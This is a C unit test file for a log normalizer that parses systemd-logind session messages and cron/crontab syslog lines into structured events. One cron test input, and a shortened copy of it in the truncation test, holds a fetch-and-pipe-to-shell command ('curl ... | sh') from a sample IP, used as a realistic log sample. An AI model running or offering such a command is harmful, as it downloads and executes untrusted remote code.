#include "norm_test.h"

static void test_logind_new_session(void **state)
{
    (void)state;
    struct trl_event *ev = normalized("systemd-logind", "New session 7 of user svc_backup.");
    assert_class(ev, "session", "start", "session-opened", "success");
    assert_field(ev, TRL_F_USER_NAME, "svc_backup");
    assert_named(ev, "labels.session_id", "7");
    assert_values(ev, TRL_F_RELATED_USER, "svc_backup");

    ev = normalized("systemd-logind", "New session c1 of user gdm.");
    assert_named(ev, "labels.session_id", "c1");
    assert_field(ev, TRL_F_USER_NAME, "gdm");

    /* A user name may itself contain dots. */
    ev = normalized("systemd-logind", "New session 3 of user john.doe.");
    assert_field(ev, TRL_F_USER_NAME, "john.doe");
}

static void test_logind_new_session_quoted_systemd_255(void **state)
{
    (void)state;
    struct trl_event *ev = normalized(
        "systemd-logind", "New session '12' of user 'alice' with class 'user' and type 'tty'.");
    assert_class(ev, "session", "start", "session-opened", "success");
    assert_field(ev, TRL_F_USER_NAME, "alice");
    assert_named(ev, "labels.session_id", "12");
    assert_named(ev, "labels.session_class", "user");
    assert_named(ev, "labels.session_type", "tty");
}

static void test_logind_session_end_lines(void **state)
{
    (void)state;
    struct trl_event *ev =
        normalized("systemd-logind", "Session 7 logged out. Waiting for processes to exit.");
    assert_class(ev, "session", "end", "session-closed", "success");
    assert_named(ev, "labels.session_id", "7");
    assert_field(ev, TRL_F_USER_NAME, NULL);

    ev = normalized("systemd-logind", "Removed session 7.");
    assert_class(ev, "session", "end", "session-removed", "success");
    assert_named(ev, "labels.session_id", "7");

    ev = normalized("systemd-logind", "Removed session 'c2'.");
    assert_named(ev, "labels.session_id", "c2");
}

static void test_logind_seat_and_power(void **state)
{
    (void)state;
    struct trl_event *ev = normalized("systemd-logind", "New seat seat0.");
    assert_class(ev, "host", "info", "seat-added", NULL);
    assert_named(ev, "labels.seat", "seat0");

    ev = normalized("systemd-logind", "System is rebooting.");
    assert_class(ev, "host", "end", "system-reboot", NULL);
    ev = normalized("systemd-logind", "System is powering down.");
    assert_class(ev, "host", "end", "system-shutdown", NULL);
}

static void test_logind_unknown_and_malformed(void **state)
{
    (void)state;
    assert_no_match(trl_norm_logind, "systemd-logind", "New session");
    assert_no_match(trl_norm_logind, "systemd-logind", "New session 7 of user");
    assert_no_match(trl_norm_logind, "systemd-logind", "New session 7 of user .");
    assert_no_match(trl_norm_logind, "systemd-logind", "New session '7 of user x.");
    assert_no_match(trl_norm_logind, "systemd-logind", "New session 7 of user a b.");
    assert_no_match(trl_norm_logind, "systemd-logind", "Session 7");
    assert_no_match(trl_norm_logind, "systemd-logind", "Removed session .");
    assert_no_match(trl_norm_logind, "systemd-logind",
                    "Watching system buttons on /dev/input/event0 (Power Button)");
}

static void test_cron_command(void **state)
{
    (void)state;
    struct trl_event *ev = normalized(
        "CRON", "(root) CMD (/bin/bash -c 'curl -s http://198.51.100.77/b | sh' >/dev/null 2>&1)");
    assert_class(ev, "process", "start", "cron-command", "success");
    assert_field(ev, TRL_F_USER_NAME, "root");
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE,
                 "/bin/bash -c 'curl -s http://198.51.100.77/b | sh' >/dev/null 2>&1");
    assert_field(ev, TRL_F_PROCESS_NAME, "CRON");
    assert_values(ev, TRL_F_RELATED_USER, "root");

    /* cronie on RHEL, a command with parentheses of its own */
    ev = normalized("crond", "(alice) CMD ((cd /srv && ./backup.sh) > /tmp/log)");
    assert_field(ev, TRL_F_USER_NAME, "alice");
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE, "(cd /srv && ./backup.sh) > /tmp/log");
}

static void test_crontab_edit_lines(void **state)
{
    (void)state;
    struct trl_event *ev = normalized("crontab", "(root) REPLACE (root)");
    assert_class(ev, "configuration", "change", "crontab-modified", "success");
    assert_field(ev, TRL_F_USER_NAME, "root");
    assert_field(ev, TRL_F_USER_TARGET_NAME, "root");

    ev = normalized("crontab", "(root) REPLACE (alice)");
    assert_field(ev, TRL_F_USER_NAME, "root");
    assert_field(ev, TRL_F_USER_TARGET_NAME, "alice");
    assert_values(ev, TRL_F_RELATED_USER, "root,alice");

    ev = normalized("crontab", "(alice) BEGIN EDIT (alice)");
    assert_class(ev, "configuration", "info", "crontab-edit-begin", NULL);
    ev = normalized("crontab", "(root) END EDIT (root)");
    assert_class(ev, "configuration", "info", "crontab-edit-end", NULL);
    ev = normalized("crontab", "(root) LIST (root)");
    assert_class(ev, "configuration", "access", "crontab-listed", "success");
    ev = normalized("crontab", "(bob) DELETE (bob)");
    assert_class(ev, "configuration", "deletion", "crontab-deleted", "success");
    assert_field(ev, TRL_F_USER_NAME, "bob");
}

static void test_cron_daemon_lines(void **state)
{
    (void)state;
    struct trl_event *ev = normalized("cron", "(*system*) RELOAD (/etc/crontab)");
    assert_class(ev, "configuration", "change", "crontab-reloaded", "success");
    assert_field(ev, TRL_F_USER_NAME, NULL);
    assert_field(ev, TRL_F_FILE_PATH, "/etc/crontab");

    ev = normalized("cron", "(*system*) INSECURE MODE (group/other writable) (/etc/cron.d/x)");
    assert_class(ev, "configuration", "info", "crontab-ignored", "failure");
    assert_field(ev, TRL_F_EVENT_REASON, "group/other writable");
    assert_field(ev, TRL_F_FILE_PATH, "/etc/cron.d/x");

    ev = normalized("crond", "(CRON) STARTUP (1.5.7)");
    assert_class(ev, "process", "start", "cron-started", "success");
    assert_field(ev, TRL_F_USER_NAME, NULL);

    ev = normalized("crontab", "(eve) AUTH (crontab command not allowed)");
    assert_class(ev, "authentication", "info", "crontab-denied", "failure");
    assert_field(ev, TRL_F_USER_NAME, "eve");
    assert_field(ev, TRL_F_EVENT_REASON, "crontab command not allowed");
}

static void test_cron_pam_session(void **state)
{
    (void)state;
    struct trl_event *ev = normalized(
        "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
    assert_class(ev, "session", "start", "session-opened", "success");
    assert_field(ev, TRL_F_USER_NAME, "root");
    assert_field(ev, TRL_F_USER_ID, "0");
    assert_named(ev, "pam.service", "cron");
}

static void test_cron_unknown_and_malformed(void **state)
{
    (void)state;
    assert_no_match(trl_norm_cron, "CRON", "");
    assert_no_match(trl_norm_cron, "CRON", "(");
    assert_no_match(trl_norm_cron, "CRON", "(root)");
    assert_no_match(trl_norm_cron, "CRON", "(root) CMD");
    assert_no_match(trl_norm_cron, "CRON", "() CMD (ls)");
    assert_no_match(trl_norm_cron, "CRON", "(CRON) INFO (pidfile fd = 3)");
    assert_no_match(trl_norm_cron, "CRON", "(root) MAIL (mailed 1 byte of output)");
    assert_no_match(trl_norm_cron, "CRON", "root CMD (ls)");
}

static void test_logind_cron_survive_every_truncation(void **state)
{
    (void)state;
    norm_survive_prefixes(trl_norm_logind, "systemd-logind",
                          "New session '12' of user 'alice' with class 'user' and type 'tty'.");
    norm_survive_prefixes(trl_norm_logind, "systemd-logind",
                          "Session 7 logged out. Waiting for processes to exit.");
    norm_survive_prefixes(trl_norm_cron, "CRON", "(root) CMD (/bin/bash -c 'curl x | sh')");
    norm_survive_prefixes(trl_norm_cron, "cron",
                          "(*system*) INSECURE MODE (group/other writable) (/etc/cron.d/x)");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_logind_new_session),
        cmocka_unit_test(test_logind_new_session_quoted_systemd_255),
        cmocka_unit_test(test_logind_session_end_lines),
        cmocka_unit_test(test_logind_seat_and_power),
        cmocka_unit_test(test_logind_unknown_and_malformed),
        cmocka_unit_test(test_cron_command),
        cmocka_unit_test(test_crontab_edit_lines),
        cmocka_unit_test(test_cron_daemon_lines),
        cmocka_unit_test(test_cron_pam_session),
        cmocka_unit_test(test_cron_unknown_and_malformed),
        cmocka_unit_test(test_logind_cron_survive_every_truncation),
    };
    return cmocka_run_group_tests(tests, norm_setup, norm_teardown);
}
